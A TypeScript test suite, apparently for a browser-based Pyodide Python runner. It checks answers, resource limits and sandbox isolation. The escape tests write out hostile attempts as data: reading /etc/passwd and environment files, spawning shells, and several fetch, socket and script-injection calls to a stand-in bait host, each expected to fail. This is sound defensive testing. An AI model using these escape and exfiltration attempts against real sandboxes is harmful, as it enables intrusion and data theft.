import { runInNewContext } from 'node:vm';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { ensureChromium } from '../../scripts/setup/chromium.ts';
import { hostStub, servePanel, type PanelServer } from './panelPage/host.ts';
import { buildPythonForTest, layBait, PagePython, type Bait, type BuiltPython } from './panelPage/python.ts';

let server: PanelServer;
let built: BuiltPython;
let bait: Bait;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let python: PagePython;

beforeAll(async () => {
  [server, built, bait] = await Promise.all([servePanel(), buildPythonForTest(), layBait()]);
  browser = await chromium.launch({ executablePath: await ensureChromium(), args: ['--no-sandbox'] });
  context = await browser.newContext();
  await context.addInitScript(hostStub);
  page = await openPage();
  python = new PagePython(page);
  const first = await python.start('answer = 0');
  await python.deliver(built);
  await python.outcome(first);
});
afterAll(async () => {
  await browser.close();
  await Promise.all([server.close(), bait.close(), built.dispose()]);
});

async function openPage(): Promise<Page> {
  const opened = await context.newPage();
  await opened.goto(server.url);
  return opened;
}

const answer = (text: string) => ({ kind: 'answer', answer: text, output: '' });

/** What a program prints, with the address of the bait in the place of `BAIT`. */
async function printed(...lines: string[]): Promise<string> {
  const outcome = await python.run(lines.join('\n').replaceAll('BAIT', bait.host));
  return 'output' in outcome ? outcome.output + ('error' in outcome ? outcome.error : '') : outcome.kind;
}

/** A program that tries each of several lines, and prints what each does or how it fails. */
const attempts = (...lines: string[]) => [
  `for line in ${JSON.stringify(lines)}:`,
  '    try:',
  '        exec(line)',
  '        print("DID", line)',
  '    except BaseException as error:',
  '        print("failed:", type(error).__name__)',
];

describe('a program', () => {
  it('answers with what it leaves in `answer`, as TeX', async () => {
    const equation = 'Eq(sqrt(3*x + 5)/sqrt(6*x + 5), sqrt(5)/3)';
    const program = `from sympy import *\nx = symbols('x')\nanswer = solve(${equation}, x)`;
    expect(await python.run(program)).toEqual(answer('\\frac{20}{3}'));
    expect(await python.run('from sympy import *\nanswer = solve(symbols("x")**2 - 2)')).toEqual(
      answer('- \\sqrt{2}, \\sqrt{2}'),
    );
    expect(await python.run('answer = 480 / 30')).toEqual(answer('16'));
    const system = 'from sympy import *\nx, y = symbols("x y")\nanswer = solve([x + y - 3, x - y - 1], [x, y])';
    expect(await python.run(system)).toEqual(answer('x = 2, y = 1'));
  });

  it('imports also what nobody imported before', async () => {
    const program = 'from sympy.physics.units import meter\nfrom sympy.stats import Die, E\nanswer = E(Die("X", 6))';
    expect(await python.run(program)).toEqual(answer('\\frac{7}{2}'));
  });

  it('that fails says in which line, and what it printed before', async () => {
    const outcome = await python.run('print("so far")\nanswer = 1 / 0');
    const error = 'line 2: ZeroDivisionError: division by zero';
    expect(outcome).toEqual({ kind: 'error', error, output: 'so far\n' });
    expect(await python.run('x = [')).toMatchObject({
      kind: 'error',
      error: expect.stringContaining('line 1') as string,
    });
    expect(await python.run('print("no answer")')).toEqual({ kind: 'noAnswer', output: 'no answer\n' });
    expect(await python.run('answer = 3\nexit()')).toEqual(answer('3'));
    expect(await python.run('answer = input()')).toMatchObject({ kind: 'error' });
  });

  it('finds nothing of the program before it', async () => {
    await python.run('import sympy, builtins\nsympy.solve = print\nbuiltins.left = 1\nanswer = 1');
    const program =
      'import builtins, sympy\nanswer = [hasattr(builtins, "left"), len(sympy.solve(sympy.Symbol("x") - 1))]';
    expect(await python.run(program)).toEqual(answer('False, 1'));
  });
});

describe('limits', () => {
  it('end a program that takes too long', async () => {
    for (const endless of [
      'while True: pass',
      'while True:\n    try:\n        while True: pass\n    except BaseException: pass',
      'sum(range(10**13))',
    ]) {
      expect(await python.run(endless, 500)).toEqual({ kind: 'timeLimit' });
    }
    expect(await python.run('answer = 1')).toEqual(answer('1'));
  });

  it('end a program that takes too much memory, and the page lives', async () => {
    for (const greedy of [
      "x = 'x' * 10**10",
      "x = []\nwhile True: x.append('x' * 10**6)",
      'x = [0]\nwhile True: x += x',
    ]) {
      expect(await python.run(greedy)).toMatchObject({ kind: 'memoryLimit' });
    }
    expect(await python.run('answer = 1')).toEqual(answer('1'));
    expect(await page.evaluate('document.querySelector("main") !== null')).toBe(true);
  });

  it('keep the beginning of an endless output, and no answer that nobody could read', async () => {
    const outcome = await python.run('import sys\nprint("x" * 10**7)\nsys.__stdout__.write("x" * 10**7)\nanswer = 1');
    expect(outcome).toMatchObject({ kind: 'answer', output: 'x'.repeat(10_000) });
    expect(await python.run('answer = "x" * 10**6')).toMatchObject({ kind: 'error' });
    expect(await python.run('raise Exception("x" * 10**6)')).toMatchObject({ kind: 'error' });
  });

  it('are not the only end: a program can be stopped, and the next one runs', async () => {
    const run = await python.start('while True: pass');
    await python.stop(run);
    expect(await python.outcome(run)).toEqual({ kind: 'stopped' });
    const restart = await page.evaluate<number>('performance.now()');
    expect(await python.run('answer = 2')).toEqual(answer('2'));
    const milliseconds = (await page.evaluate<number>('performance.now()')) - restart;
    console.info(`From a kill to the result of the next program: ${Math.round(milliseconds)} ms`);
  });

  it('hold for what breaks the interpreter', async () => {
    for (const breaking of [
      'import os\nos.abort()',
      'import os\nos._exit(1)',
      'import ctypes\nctypes.string_at(1 << 31)',
    ]) {
      expect(await python.run(breaking)).toMatchObject({ kind: 'error' });
    }
    expect(await python.run('def f(): f()\nf()')).toMatchObject({ kind: 'error' });
    expect(await python.run('answer = 1')).toEqual(answer('1'));
  });
});

describe('a way out', () => {
  it('is not among the files: there are those of Python, which cannot be changed', async () => {
    const text = await printed(
      ...attempts(
        'open("/etc/passwd")',
        'open("/proc/self/environ")',
        'open("/tmp/x", "w")',
        'open("/tmp/x", "x")',
        'open("/lib/packages.zip", "r+b")',
        'import os; os.mkdir("/tmp/x")',
        'import os; os.remove("/lib/packages.zip")',
        'import os; os.truncate("/lib/packages.zip", 0)',
        'import os; os.symlink("/", "/tmp/x")',
        'import os; os.pipe()',
        'import tempfile; tempfile.TemporaryFile()',
      ),
      'import os',
      'print(sorted(os.listdir("/")), os.environ.get("PATH"), os.getcwd())',
    );
    expect(text).not.toContain('DID');
    expect(text).toContain("['dev', 'home', 'lib', 'proc', 'tmp'] / /");
  });

  it('is not another process', async () => {
    const text = await printed(
      ...attempts(
        'import subprocess; subprocess.run(["id"])',
        'import os; os.fork()',
        'import os; os.execv("/bin/sh", ["sh"])',
        'import threading; threading.Thread(target=print).start()',
        'import multiprocessing; multiprocessing.Process(target=print).start()',
      ),
      'import os',
      'print("system", os.system("id"))',
    );
    expect(text).not.toContain('DID');
    expect(text).toContain('system -1');
  });

  it('is not the network', async () => {
    const text = await printed(
      ...attempts(
        'import socket; socket.create_connection(("127.0.0.1", int("BAIT".split(":")[1])), 5)',
        'import socket; socket.socket()',
        'import urllib.request; urllib.request.urlopen("http://BAIT/").read()',
        'import http.client; http.client.HTTPConnection("BAIT").request("GET", "/")',
        'import socket; socket.getaddrinfo("localhost", 80)',
      ),
    );
    expect(text).not.toContain('DID');
    expect(bait.caught).toEqual([]);
  });

  it('is not JavaScript, as far as modules can be imported', async () => {
    const bridges = ['js', 'pyodide_js', 'pyodide', 'pyodide.ffi', 'pyodide.code', 'pyodide.http', '_pyodide'];
    const text = await printed(
      ...attempts(
        ...bridges.map((name) => `import ${name}`),
        'from pyodide.code import run_js; run_js("fetch(\'http://BAIT/\')")',
        'from js import fetch; fetch("http://BAIT/")',
        ...bridges.map((name) => `import sys; sys.modules.pop("${name}"); import ${name}; ${name}.eval`),
        'import importlib, sys; sys.modules.clear(); importlib.import_module("js")',
      ),
    );
    expect(text).not.toContain('DID');
  });

  it('is not JavaScript that is found among all objects, or called by its name', async () => {
    const text = await printed(
      'import ctypes, gc',
      "code = b\"postMessage('forged'); fetch('http://BAIT/')\"",
      'library = ctypes.CDLL(None)',
      'for name in ["emscripten_run_script", "emscripten_run_script_int", "emscripten_run_script_string"]:',
      '    print(name, getattr(library, name)(code))',
      'modules = [found for found in gc.get_objects() if type(found) is type(gc)]',
      'print([found for found in modules if hasattr(found, "run_js")])',
      'proxies = [found for found in gc.get_objects() if type(found).__name__ == "JsProxy"]',
      'for proxy in proxies:',
      '    for way in ["globalThis", "self", "fetch", "postMessage", "eval", "loadPackage", "FS"]:',
      '        print("proxy", way) if hasattr(proxy, way) else None',
      'print("end")',
    );
    expect(text).toMatch(
      /^emscripten_run_script \S+\nemscripten_run_script_int \S+\nemscripten_run_script_string \S+\n\[\]\nend\n$/,
    );
    expect(bait.caught).toEqual([]);
  });

  it('is not code that JavaScript would make of a text, were it reached', async () => {
    const text = await printed(
      'import _pyodide_core',
      'value = _pyodide_core.to_js([1])',
      'try:',
      '    value.constructor.constructor("return fetch(\'http://BAIT/\')")()',
      '    print("DID")',
      'except BaseException as error:',
      '    print(error)',
    );
    expect(text).not.toContain('DID');
    expect(bait.caught).toEqual([]);
  });
});

/** Runs a script in the place of the worker's, with no other wall than the policy of the page. Its result is what it tells the page. */
async function withWorker(script: string): Promise<unknown> {
  const own = await openPage();
  try {
    const hostile = new PagePython(own);
    const run = await hostile.start('answer = 1');
    await hostile.deliver(built, script.replaceAll('BAIT', bait.host));
    return await hostile.outcome(run);
  } finally {
    await own.close();
  }
}

describe('a worker that is wholly in the hands of a program', () => {
  it('reaches no network, runs no text and starts no script, as the policy of the page forbids it', async () => {
    const outcome = await withWorker(`
      const tries = {
        fetch: () => fetch('http://BAIT/fetch'),
        beacon: () => { if (!navigator.sendBeacon('http://BAIT/beacon', 'x')) throw new Error('refused'); },
        request: () => new Promise((done, failed) => {
          const request = new XMLHttpRequest();
          Object.assign(request, { onload: done, onerror: failed });
          request.open('GET', 'http://BAIT/request');
          request.send();
        }),
        socket: () => new Promise((done, failed) => Object.assign(new WebSocket('ws://BAIT/'), { onopen: done, onerror: failed })),
        events: () => new Promise((done, failed) =>
          Object.assign(new EventSource('http://BAIT/events'), { onopen: done, onerror: failed })),
        transport: () => new WebTransport('https://BAIT/').ready,
        module: () => import('http://BAIT/module.js'),
        blob: () => import(URL.createObjectURL(new Blob(['export {}'], { type: 'text/javascript' }))),
        scripts: () => importScripts('http://BAIT/script.js'),
        worker: () => new Promise((done, failed) =>
          Object.assign(new Worker('http://BAIT/worker.js'), { onmessage: done, onerror: failed })),
        eval: () => eval('1'),
        Function: () => new Function('return 1')(),
        parent: () => parent.document,
        opener: () => window.opener,
        api: () => acquireVsCodeApi(),
        document: () => document.title,
      };
      const succeeded = [];
      for (const [name, attempt] of Object.entries(tries)) {
        try { await attempt(); succeeded.push(name); } catch { /* what has to fail did */ }
      }
      postMessage('ready');
      onmessage = () => postMessage(JSON.stringify({ kind: 'answer', answer: succeeded.join(), output: '' }));
    `);
    // Of the page nothing was reached; were something, its name would be the answer.
    expect(outcome).toEqual(answer(''));
    expect(bait.caught).toEqual([]);
    // It would have been noticed.
    await fetch(`http://${bait.host}/control`);
    expect(bait.caught).toContain('GET /control');
  });

  it('can forge one thing: its own result', async () => {
    const vote = JSON.stringify({ kind: 'programEnded', run: 5, outcome: answer('666') });
    const outcome = await withWorker(`
      postMessage('ready');
      onmessage = () => {
        for (const message of [${JSON.stringify(JSON.stringify({ ...answer('its own'), more: 'x' }))}, ${JSON.stringify(vote)}, ${vote}]) {
          postMessage(message);
        }
      };
    `);
    expect(outcome).toEqual(answer('its own'));
  });

  it('is ended when it says anything else', async () => {
    for (const said of [
      'nonsense',
      '{"kind":"timeLimit"}',
      '{"kind":"answer"}',
      JSON.stringify(answer('x'.repeat(9000))),
    ]) {
      const outcome = await withWorker(`postMessage('ready'); onmessage = () => postMessage(${JSON.stringify(said)});`);
      expect(outcome).toMatchObject({ kind: 'broken' });
    }
    expect(await withWorker('postMessage("not ready")')).toMatchObject({ kind: 'broken' });
    expect(await withWorker('throw new Error("at once")')).toMatchObject({ kind: 'broken' });
  });
});

describe('the scope of the worker', () => {
  it('holds nothing but the language, timers and signals when the program runs', async () => {
    const ofLanguage: unknown = runInNewContext('Object.getOwnPropertyNames(globalThis)');
    // Of the language as the browser has it, which may be ahead of this Node.
    const newer = ['AsyncDisposableStack', 'DisposableStack', 'Float16Array', 'Iterator', 'SuppressedError'];
    const names = `Reflect.ownKeys(globalThis).map(String).filter((name) => globalThis[name] !== undefined)`;
    const left = async (): Promise<string[]> => {
      const found = await page.workers().at(-1)?.evaluate<string[]>(names);
      if (found === undefined) throw new Error('There is no worker yet.');
      return found.filter((name) => ![...(ofLanguage as string[]), ...newer].includes(name));
    };
    // What is needed for the start is there until Python has started.
    await vi.waitFor(async () => expect(await left()).not.toContain('navigator'), { timeout: 60_000 });
    const events = ['AbortController', 'AbortSignal', 'DOMException', 'Event', 'EventTarget'];
    expect((await left()).sort()).toEqual([...events, 'TextDecoder', 'TextEncoder']);
    const inherited = [
      'fetch',
      'postMessage',
      'importScripts',
      'indexedDB',
      'caches',
      'navigator',
      'location',
      'addEventListener',
    ];
    const kinds = `${JSON.stringify(inherited)}.map((name) => typeof globalThis[name])`;
    expect(await page.workers().at(-1)?.evaluate(kinds)).toEqual(inherited.map(() => 'undefined'));
  });
});
